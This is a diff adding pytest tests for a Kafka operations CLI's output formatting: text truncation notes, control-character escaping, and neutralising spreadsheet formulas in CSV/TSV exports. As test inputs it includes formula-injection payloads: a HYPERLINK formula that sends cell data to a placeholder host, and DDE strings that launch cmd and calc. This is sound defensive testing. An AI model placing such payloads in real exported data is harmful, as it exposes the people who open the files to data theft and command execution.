@@ -7,6 +7,7 @@ import io
 import json
 import re
 from datetime import datetime, timezone
+from decimal import Decimal
 from enum import Enum
 from typing import Any
 
@@ -177,6 +178,27 @@ def test_safe_text(raw: str, shown: str) -> None:
     assert safe_text(raw) == shown
 
 
+MORE = "more characters; -o json prints the whole value)"
+
+
+@pytest.mark.parametrize(
+    ("raw", "keep_lines", "shown"),
+    [
+        ("abcd", False, "abcd"),  # exactly the bound: whole
+        ("abcde", False, f"abcd ... (1 {MORE}"),
+        ("ab\x1bcd", False, f"ab ... (3 {MORE}"),  # never cut inside an escape
+        ("a\nb\ncd", True, f"a\nb\n\n... (2 {MORE}"),  # a block: the note on its own line
+        ("a\nb\ncd", False, f"a\\nb ... (3 {MORE}"),
+    ],
+)
+def test_shown_text_is_cut_at_the_bound_and_says_how_much_was_left_out(
+    raw: str, keep_lines: bool, shown: str
+) -> None:
+    from kafkaops.escape import shown_text
+
+    assert shown_text(raw, keep_lines=keep_lines, limit=4) == shown
+
+
 @pytest.mark.parametrize(
     ("raw", "shown"),
     [
@@ -207,11 +229,45 @@ def test_tsv_escapes_tabs_newlines_and_backslashes_one_record_per_line() -> None
 
 
 def test_csv_is_exact_when_piped() -> None:
-    rows = [{"id": 1, "last_error": "two\nlines, \x1b[31m"}]
+    rows = [
+        {"id": 1, "last_error": "two\nlines, \x1b[31m"},
+        {"id": 2, "last_error": "a lone\rcarriage return"},
+    ]
     text = render(Format.csv, rows, [Field("id"), Field("last_error")])
-    assert list(csv.reader(io.StringIO(text))) == [["id", "last_error"], ["1", "two\nlines, \x1b[31m"]]
+    assert list(csv.reader(io.StringIO(text, newline=""))) == [
+        ["id", "last_error"],
+        ["1", "two\nlines, \x1b[31m"],
+        ["2", "a lone\rcarriage return"],
+    ]
     shown = render(Format.csv, rows, [Field("id"), Field("last_error")], terminal=True)
     assert "\x1b" not in shown and "\\x1b[31m" in shown
+
+
+FORMULAS = ['=HYPERLINK("http://x.test","open")', "+1+1", "-2+3", "@SUM(1+1)", "\tcmd", "\rcmd"]
+
+
+def _cells(fmt: Format, text: str) -> list[list[str]]:
+    if fmt is Format.csv:
+        return list(csv.reader(io.StringIO(text, newline="")))
+    return [line.split("\t") for line in text.splitlines()]
+
+
+@pytest.mark.parametrize("fmt", [Format.csv, Format.tsv])
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_csv_and_tsv_text_that_starts_like_a_formula_gets_an_apostrophe_unless_raw(
+    fmt: Format, formula: str
+) -> None:
+    row = {"topic": formula, "retry_count": -3, "amount": Decimal("-1.5"), "key": "-3", "ok": "a=b"}
+    fields = [Field(name) for name in row]
+    tsv_form = formula.replace("\t", "\\t").replace("\r", "\\r")
+    stored = formula if fmt is Format.csv else tsv_form
+    screen = io.StringIO()
+    Output(fmt, stdout=screen).rows([row], fields)
+    # Text is neutralised, numbers never: -3 and -1.5 stay numbers, the text "-3" does not.
+    assert _cells(fmt, screen.getvalue())[1] == ["'" + stored, "-3", "-1.5", "'-3", "a=b"]
+    raw = io.StringIO()
+    Output(fmt, stdout=raw, raw_cells=True).rows([row], fields)
+    assert _cells(fmt, raw.getvalue())[1] == [stored, "-3", "-1.5", "-3", "a=b"]
 
 
 MACHINE_ROWS = [
@@ -331,3 +387,54 @@ def test_live_rows_reach_the_reader_one_by_one(fmt: Format) -> None:
 
     Output(fmt, stdout=pipe).rows(rows(), [Field("id"), Field("last_error")], live=True)
     assert "e0" in seen_before_next[1] and "e1" in seen_before_next[2]
+
+
+@pytest.mark.timeout(120)
+def test_failed_list_table_cuts_a_huge_last_error_and_json_keeps_it_whole(configured, cli) -> None:  # type: ignore[no-untyped-def]
+    from tests.events import event
+
+    error = "E" * 1_000_000
+    configured.insert([event(1, status="DLQ_FAILED", last_error=error), event(2, last_error="short")])
+    table = cli("failed", "list")
+    assert table.exit_code == 0, table.stderr
+    assert len(table.stdout) < 65_536 + 1_000
+    assert f"{'E' * 65_536} ... (934,464 {MORE}\n" in table.stdout
+    assert table.stdout.rstrip("\n").endswith("short")
+    rows = json.loads(cli("failed", "list", "-o", "json").stdout)
+    assert [r["last_error"] for r in rows] == [error, "short"]
+    shown = cli("failed", "show", str(rows[0]["id"]))
+    assert shown.exit_code == 0, shown.stderr
+    assert f"{'E' * 65_536} ... (934,464 {MORE}\n" in shown.stdout and len(shown.stdout) < 70_000
+
+
+@pytest.mark.parametrize("raw_first", [False, True])
+def test_failed_list_csv_neutralises_formulas_unless_raw_cells(configured, cli, raw_first: bool) -> None:  # type: ignore[no-untyped-def]
+    from tests.events import event
+
+    topic, error = '=HYPERLINK("http://x.test/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0"
+    configured.insert([event(1, topic=topic, last_error=error, retry_count=3)])
+    result = cli("failed", "list", "-o", "csv")
+    assert result.exit_code == 0, result.stderr
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert (row["topic"], row["last_error"], row["retry_count"]) == ("'" + topic, "'" + error, "3")
+    args = (
+        ["--raw-cells", "failed", "list", "-o", "csv"]
+        if raw_first
+        else ["failed", "list", "-o", "csv", "--raw-cells"]
+    )
+    raw = cli(*args)
+    assert raw.exit_code == 0, raw.stderr
+    (row,) = csv.DictReader(io.StringIO(raw.stdout))
+    assert (row["topic"], row["last_error"]) == (topic, error)
+
+
+def test_failed_counts_tsv_neutralises_formulas_unless_raw_cells(configured, cli) -> None:  # type: ignore[no-untyped-def]
+    from tests.events import event
+
+    configured.insert([event(1, topic="+cmd|' /C calc'!A0"), event(2, topic="+cmd|' /C calc'!A0")])
+    result = cli("failed", "-g", "topic", "-o", "tsv")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.splitlines()[1].split("\t")[:2] == ["'+cmd|' /C calc'!A0", "2"]
+    raw = cli("failed", "-g", "topic", "-o", "tsv", "--raw-cells")
+    assert raw.exit_code == 0, raw.stderr
+    assert raw.stdout.splitlines()[1].split("\t")[:2] == ["+cmd|' /C calc'!A0", "2"]
